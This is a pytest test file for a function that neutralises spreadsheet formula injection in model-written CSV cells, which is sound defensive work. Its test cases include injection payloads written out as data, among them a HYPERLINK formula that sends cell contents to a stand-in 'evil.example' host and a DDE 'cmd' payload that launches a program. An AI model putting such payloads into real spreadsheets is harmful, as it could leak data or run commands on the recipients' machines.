"""Nothing that a model writes becomes a formula in a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chatbench.rendering.tables import csv_text, harmless


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("https://evil.example?"&A1)',
        "+cmd|' /C calc'!A0",
        "-2+A1",
        "-1+cmd",
        "+1-A:A",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\uff1d1+1",
        "-",
        "-x",
    ],
)
def test_a_formula_is_marked_as_text(cell: str) -> None:
    assert harmless(cell) == f"'{cell}"


@pytest.mark.parametrize(
    "cell", ["-5", "+3.5 %", "-1,234.50", "- 2", "+1e-9", "5", "a=b", "", "1-2", "a@b.c"]
)
def test_numbers_and_words_stay(cell: str) -> None:
    assert harmless(cell) == cell


@given(st.lists(st.lists(st.text(max_size=12), min_size=2, max_size=2), min_size=1, max_size=4))
def test_what_is_read_back_is_what_was_there(rows: list[list[str]]) -> None:
    back = list(csv.reader(io.StringIO(csv_text(rows), newline="")))
    assert back == [[harmless(cell) for cell in row] for row in rows]
    assert not any(cell[:1] in ("=", "@", "\t", "\r") for row in back for cell in row)
